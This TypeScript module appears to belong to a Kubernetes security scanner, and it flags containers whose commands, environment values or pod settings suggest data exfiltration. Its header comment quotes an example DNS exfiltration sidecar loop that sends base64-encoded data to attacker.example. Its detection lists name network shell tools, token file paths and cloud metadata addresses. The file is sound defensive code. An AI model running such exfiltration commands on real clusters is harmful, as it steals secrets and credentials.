/**
 * Exfiltration tells: what, in a container's definition, says "this could carry data out". The
 * battlecard's sidecar runs `while true; … nslookup $(… | base64).attacker.example; sleep …` with a
 * token that lists every Secret. Each tell is quoted as evidence: the words matched (a tool, a loop
 * head, a domain, an address), never a whole command line or environment value, which may hold a
 * credential.
 *
 * A container "shows exfiltration" when it has a way out (an egress tell) and a behaviour that
 * gathers or hides data (a behaviour tell of another kind), or when its pod sends DNS to resolvers on
 * the internet. Images from another registry, moving tags and host aliases are context: quoted, but
 * never enough on their own.
 */
import type * as Tldts from 'tldts';
import { lazyRequire } from '../core/lazy-require.js';
import type { KubeObject } from '../core/object.js';
import { isRecord } from '../core/object.js';
import type { PathSegment } from '../core/provenance.js';
import { TOKEN_MOUNT_PATH } from '../core/tokens.js';
import { podTemplateOf, type ContainerRef } from '../core/workload.js';
import { isPublicAddress } from '../netpol/index.js';
import { imageOwner, isMovingTag, parseImage } from '../core/image.js';

const tldts = lazyRequire<typeof Tldts>('tldts');

export type TellKind =
  | 'shell-loop'
  | 'network-tool'
  | 'encoding'
  | 'token-file'
  | 'api-server'
  | 'cloud-metadata'
  | 'outside-address'
  | 'outside-dns'
  | 'host-network'
  | 'foreign-image'
  | 'moving-tag'
  | 'host-aliases';

export interface Tell {
  kind: TellKind;
  /** What was matched, quoted as is: `while true`, `nslookup`, `x.attacker.example`, `8.8.8.8`. */
  quote: string;
  /** The field it is in. */
  path: PathSegment[];
}

/** Tells that open a way out of the cluster. */
const EGRESS: ReadonlySet<TellKind> = new Set(['network-tool', 'outside-address', 'outside-dns', 'host-network']);
/** Tells that gather, hide or move data. */
const BEHAVIOUR: ReadonlySet<TellKind> = new Set(['shell-loop', 'network-tool', 'encoding', 'token-file', 'api-server', 'cloud-metadata']);

/** Words a developer reads: `runs a shell loop (while true)`. */
const PHRASES: Record<TellKind, string> = {
  'shell-loop': 'runs a shell loop',
  'network-tool': 'uses network tools',
  encoding: 'encodes data',
  'token-file': 'reads the token file',
  'api-server': 'calls the API server',
  'cloud-metadata': 'calls the cloud metadata service',
  'outside-address': 'names addresses outside the cluster',
  'outside-dns': 'sends DNS to resolvers outside the cluster',
  'host-network': 'runs on the host network (past every NetworkPolicy)',
  'foreign-image': 'runs an image from elsewhere',
  'moving-tag': 'runs a moving image tag',
  'host-aliases': 'rewrites name resolution with hostAliases',
};

/** Whether the tells add up to a way of carrying data out (see the module comment). */
export function showsExfiltration(tells: readonly Tell[]): boolean {
  if (tells.some((tell) => tell.kind === 'outside-dns')) return true;
  return tells.some((egress) => EGRESS.has(egress.kind) && tells.some((behaviour) => BEHAVIOUR.has(behaviour.kind) && behaviour.kind !== egress.kind));
}

const ORDER = Object.keys(PHRASES) as TellKind[];

/**
 * `runs a shell loop (while true), uses network tools (nslookup, curl)`: the tells in a developer's
 * words, in a fixed order; `skip` leaves out kinds the message says otherwise (the image).
 */
export function describeTells(tells: readonly Tell[], skip: readonly TellKind[] = []): string {
  const byKind = new Map<TellKind, string[]>();
  for (const tell of [...tells].sort((a, b) => ORDER.indexOf(a.kind) - ORDER.indexOf(b.kind))) {
    if (skip.includes(tell.kind)) continue;
    const quotes = byKind.get(tell.kind) ?? [];
    if (!quotes.includes(tell.quote)) quotes.push(tell.quote);
    byKind.set(tell.kind, quotes);
  }
  return [...byKind]
    .map(([kind, quotes]) => `${PHRASES[kind]} (${quotes.slice(0, 3).join(', ')}${quotes.length > 3 ? ', …' : ''})`)
    .join(', ');
}

export function tellsJson(tells: readonly Tell[]): { kind: TellKind; quote: string; field: string }[] {
  return tells.map((tell) => ({ kind: tell.kind, quote: tell.quote, field: tell.path.join('.') }));
}

const NETWORK_TOOLS = new Set(['nslookup', 'dig', 'host', 'drill', 'curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'telnet', 'ssh', 'scp', 'sftp', 'ftp', 'tftp', 'rsync', 'iodine', 'dnscat', 'dnscat2']);
const ENCODERS = new Set(['base64', 'base32', 'basenc', 'xxd', 'od', 'hexdump', 'uuencode']);
/** Words before the command proper: `exec curl`, `nohup sh`, `timeout 5 nc`. */
const PREFIX_WORDS = new Set(['exec', 'nohup', 'sudo', 'time', 'timeout', 'busybox', 'env', 'command', 'then', 'do', 'else', '!', '{']);
const SHELL_LOOPS = [/\bwhile\s+(?:true|:|\[\s*1\s*\]|\(\(\s*1\s*\)\)|sleep\b[^;]*)/, /\bfor\s*\(\(\s*;\s*;\s*\)\)/, /\buntil\s+false\b/, /\bwhile\s+True\s*:/];
const API_SERVER = [/kubernetes\.default(?:\.svc)?/, /\$\{?KUBERNETES_(?:SERVICE_HOST|PORT)\w*/, /\/api\/v1\/(?:secrets|namespaces)\b/];
const CLOUD_METADATA = [/169\.254\.169\.254/, /metadata\.google\.internal/, /fd00:ec2::254/, /169\.254\.170\.2/];
const TOKEN_FILES = [TOKEN_MOUNT_PATH, '/run/secrets/kubernetes.io/serviceaccount'];
/** Endings of script and data files that are also top-level domains (`run.sh`, `app.py`). */
const FILE_ENDINGS = new Set(['sh', 'py', 'pl', 'rb', 'md', 'rs', 'so', 'pm', 'zip', 'mov', 'cc', 'ps', 'jar', 'tar', 'gz', 'js']);
const URL_HOST = /\b[a-z][a-z0-9+.-]*:\/\/(?:[^\s@/'"]*@)?(\[[0-9a-f:.]+\]|[^\s/:'"?#()\\;|&<>,`]+)/gi;
const IPV4 = /(?<![\w.])(\d{1,3}(?:\.\d{1,3}){3})(?![\w.])/g;

/**
 * The tells of one container: its command, arguments and environment values, its image against the
 * main container's, and the pod settings that affect it (DNS, host network, host aliases).
 * `tokenPaths` are where it holds a token (their mention reads the token file).
 */
export function containerTells(object: KubeObject, ref: ContainerRef, main: ContainerRef | undefined, tokenPaths: readonly string[] = []): Tell[] {
  return readTells(object, ref, main, tokenPaths, true);
}

/**
 * Whether a container shows exfiltration (see showsExfiltration), read without its image: the image's
 * tells (another registry, a moving tag) are context, never part of the verdict, so the many
 * containers that show nothing are cleared without quoting their images.
 */
export function containerShowsExfiltration(object: KubeObject, ref: ContainerRef, tokenPaths: readonly string[] = []): boolean {
  return showsExfiltration(readTells(object, ref, undefined, tokenPaths, false));
}

function readTells(object: KubeObject, ref: ContainerRef, main: ContainerRef | undefined, tokenPaths: readonly string[], withImage: boolean): Tell[] {
  const tells: Tell[] = [];
  const { container } = ref;
  const add = (kind: TellKind, quote: string, path: PathSegment[]) => {
    if (!tells.some((tell) => tell.kind === kind && tell.quote === quote)) tells.push({ kind, quote, path });
  };
  const script = [...strings(container.command), ...strings(container.args)].join(' ');
  const env = envValues(ref);
  // Most containers run their image's entrypoint with no environment value that could name a destination: only the image and the pod speak.
  if (script || env.length) scriptTells(script, env, [...ref.path, Array.isArray(container.command) ? 'command' : 'args'], tokenPaths, add);
  if (withImage) imageTells(ref, main).forEach((tell) => add(tell.kind, tell.quote, tell.path));
  podTells(object).forEach((tell) => add(tell.kind, tell.quote, tell.path));
  return tells;
}

/** What the command and arguments say by themselves: loops, encoders, the token file, the API server, the metadata service. */
function commandTells(script: string, words: readonly string[], tools: string[], commandPath: PathSegment[], tokenPaths: readonly string[], add: (kind: TellKind, quote: string, path: PathSegment[]) => void): void {
  const quoted = new Set<string>();
  if (/\/dev\/(?:tcp|udp)\//.test(script)) tools.push('/dev/tcp');
  for (const pattern of SHELL_LOOPS) {
    const match = pattern.exec(script);
    if (match) add('shell-loop', match[0].trim().slice(0, 40), commandPath);
  }
  for (const word of words) if (ENCODERS.has(word)) add('encoding', word, commandPath);
  for (const file of [...TOKEN_FILES, ...tokenPaths.filter((path) => path.length > 4)]) {
    if (script.includes(file) && ![...quoted].some((quote) => quote.includes(file))) {
      quoted.add(file);
      add('token-file', file, commandPath);
    }
  }
  if (words.includes('kubectl')) add('api-server', 'kubectl', commandPath);
  for (const pattern of API_SERVER) {
    const match = pattern.exec(script);
    if (match) add('api-server', match[0], commandPath);
  }
  for (const pattern of CLOUD_METADATA) {
    const match = pattern.exec(script);
    if (match) add('cloud-metadata', match[0], commandPath);
  }
}

function scriptTells(script: string, env: { value: string; path: PathSegment[] }[], commandPath: PathSegment[], tokenPaths: readonly string[], add: (kind: TellKind, quote: string, path: PathSegment[]) => void): void {
  // A container with only an environment (most of them): nothing below finds anything in an empty script.
  const words = script ? commandWords(script) : [];
  const tools = words.filter((word) => NETWORK_TOOLS.has(word));
  if (script) commandTells(script, words, tools, commandPath, tokenPaths, add);
  // Destinations: URLs and addresses anywhere; bare host names only where a network tool takes them.
  const destinations = new Set<string>();
  const local = new Set<string>();
  const classify = (host: string, path: PathSegment[]) => {
    const verdict = outsideHost(host);
    if (verdict === 'outside') {
      destinations.add(host);
      add('outside-address', host, path);
    } else if (verdict === 'local') local.add(host);
  };
  for (const host of urlHosts(script)) classify(host, commandPath);
  for (const address of ipv4s(script)) classify(address, commandPath);
  if (tools.length) for (const host of bareHosts(script)) classify(host, commandPath);
  env.forEach(({ value, path }) => {
    for (const host of urlHosts(value)) classify(host, path);
    for (const address of ipv4s(value)) classify(address, path);
    const whole = value.trim().replace(/:\d+$/, '');
    if (/^[a-z0-9.-]+$/i.test(whole) && whole.includes('.')) classify(whole, path);
    for (const pattern of CLOUD_METADATA) if (pattern.test(value)) add('cloud-metadata', pattern.source.replace(/\\/g, ''), path);
  });
  // A network tool aimed only at names in the cluster (`until nslookup db`, the API server) is not a
  // way out; one whose destination is only known at run time (`curl $URL`) may be.
  if (tools.length && (destinations.size > 0 || local.size === 0)) for (const tool of new Set(tools)) add('network-tool', tool, commandPath);
}

function imageTells(ref: ContainerRef, main: ContainerRef | undefined): Tell[] {
  const tells: Tell[] = [];
  const image = typeof ref.container.image === 'string' ? ref.container.image : '';
  if (!image) return tells;
  const reference = parseImage(image);
  if (isMovingTag(reference)) tells.push({ kind: 'moving-tag', quote: image, path: [...ref.path, 'image'] });
  const mainImage = main && main !== ref && typeof main.container.image === 'string' ? parseImage(main.container.image) : undefined;
  if (mainImage && main && main.container !== ref.container) {
    if (mainImage.registry !== reference.registry) tells.push({ kind: 'foreign-image', quote: `${image} (registry ${reference.registry}, not ${mainImage.registry})`, path: [...ref.path, 'image'] });
    else if (imageOwner(mainImage) !== imageOwner(reference)) tells.push({ kind: 'foreign-image', quote: `${image} (owner ${imageOwner(reference) || '(none)'}, not ${imageOwner(mainImage) || '(none)'})`, path: [...ref.path, 'image'] });
  }
  return tells;
}

/** Pod settings that affect every container: DNS sent outside, the host network, host aliases. */
export function podTells(object: KubeObject): Tell[] {
  const template = podTemplateOf(object);
  if (!template) return [];
  const { spec, specPath } = template;
  const tells: Tell[] = [];
  if (spec.dnsPolicy === 'None' && isRecord(spec.dnsConfig) && Array.isArray(spec.dnsConfig.nameservers)) {
    spec.dnsConfig.nameservers.forEach((server, index) => {
      if (typeof server === 'string' && isPublicAddress(server.trim())) tells.push({ kind: 'outside-dns', quote: `dnsPolicy: None, nameserver ${server.trim()}`, path: [...specPath, 'dnsConfig', 'nameservers', index] });
    });
  }
  if (spec.hostNetwork === true) tells.push({ kind: 'host-network', quote: 'hostNetwork: true', path: [...specPath, 'hostNetwork'] });
  if (Array.isArray(spec.hostAliases)) {
    spec.hostAliases.forEach((alias, index) => {
      if (!isRecord(alias)) return;
      const names = strings(alias.hostnames).join(',');
      tells.push({ kind: 'host-aliases', quote: `${names} → ${String(alias.ip)}`, path: [...specPath, 'hostAliases', index] });
      if (typeof alias.ip === 'string' && isPublicAddress(alias.ip)) tells.push({ kind: 'outside-address', quote: alias.ip, path: [...specPath, 'hostAliases', index, 'ip'] });
    });
  }
  return tells;
}

/** Is a host name or address outside the cluster (`outside`), inside it or private (`local`), or not a host at all? */
export function outsideHost(host: string): 'outside' | 'local' | undefined {
  const bare = host.replace(/^\[|\]$/g, '').toLowerCase();
  const publicAddress = isPublicAddress(bare);
  if (publicAddress !== undefined) return publicAddress ? 'outside' : 'local';
  if (bare === 'localhost' || !bare.includes('.')) return 'local';
  const parsed = tldts().parse(bare);
  if (!parsed.domain || !parsed.isIcann || !parsed.publicSuffix) return 'local';
  if (FILE_ENDINGS.has(parsed.publicSuffix)) return undefined;
  return 'outside';
}

function urlHosts(text: string): string[] {
  return [...text.matchAll(URL_HOST)].map((match) => match[1]);
}

function ipv4s(text: string): string[] {
  return [...text.matchAll(IPV4)].map((match) => match[1]).filter((address) => address.split('.').every((octet) => Number(octet) <= 255));
}

/**
 * Host names as shell words: `x.attacker.example`, `$(… | base64).x.attacker.example`,
 * `@8.8.8.8`, `user@host:22`. Words with a `/` are paths or image references, not destinations.
 */
function bareHosts(script: string): string[] {
  const hosts: string[] = [];
  for (const raw of script.replace(URL_HOST, ' ').split(/[\s"'`;|&<>]+/)) {
    let word = raw.replace(/^.*[)}]/, '').replace(/^\$\w+/, '').replace(/^.*@/, '').replace(/^\.+|[.,:]+$/g, '').replace(/:\d+$/, '');
    if (!word || word.includes('/') || word.includes('$') || word.includes('=')) continue;
    word = word.toLowerCase();
    if (/^(?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z][a-z0-9-]*[a-z0-9]$/.test(word)) hosts.push(word);
  }
  return hosts;
}

/**
 * The words in command position of a shell text: the first word of each simple command (after
 * `;`, `|`, `&&`, `$(`, a backquote, `do`, `then`), with prefixes (`exec`, `timeout 5`) and
 * variable assignments skipped, as basenames (`/usr/bin/curl` → `curl`).
 */
export function commandWords(script: string): string[] {
  const words: string[] = [];
  for (const segment of script.split(/;|\|\|?|&&?|\$\(|`|\(|\)|\n|\bdo\b|\bthen\b|\belse\b/)) {
    const parts = segment.trim().split(/\s+/).filter(Boolean);
    let index = 0;
    while (index < parts.length && (PREFIX_WORDS.has(parts[index]) || /^\w+=/.test(parts[index]) || /^\d+[smhd]?$/.test(parts[index]) || parts[index].startsWith('-'))) index++;
    const word = parts[index]?.replace(/^["']|["']$/g, '');
    if (word) words.push(word.slice(word.lastIndexOf('/') + 1));
  }
  return words;
}

function strings(value: unknown): string[] {
  return Array.isArray(value) ? value.filter((item): item is string => typeof item === 'string') : [];
}

/**
 * Literal environment values (never `valueFrom`) that can hold a tell, with their paths. Every tell a
 * value can hold (a URL, an address, a domain, the metadata service) has a dot or a colon: `info`,
 * `true`, `8080` have none.
 */
function envValues(ref: ContainerRef): { value: string; path: PathSegment[] }[] {
  const env = ref.container.env;
  const values: { value: string; path: PathSegment[] }[] = [];
  if (!Array.isArray(env)) return values;
  for (let index = 0; index < env.length; index++) {
    const entry: unknown = env[index];
    if (!isRecord(entry) || typeof entry.value !== 'string') continue;
    if (entry.value.includes('.') || entry.value.includes(':')) values.push({ value: entry.value, path: [...ref.path, 'env', index, 'value'] });
  }
  return values;
}
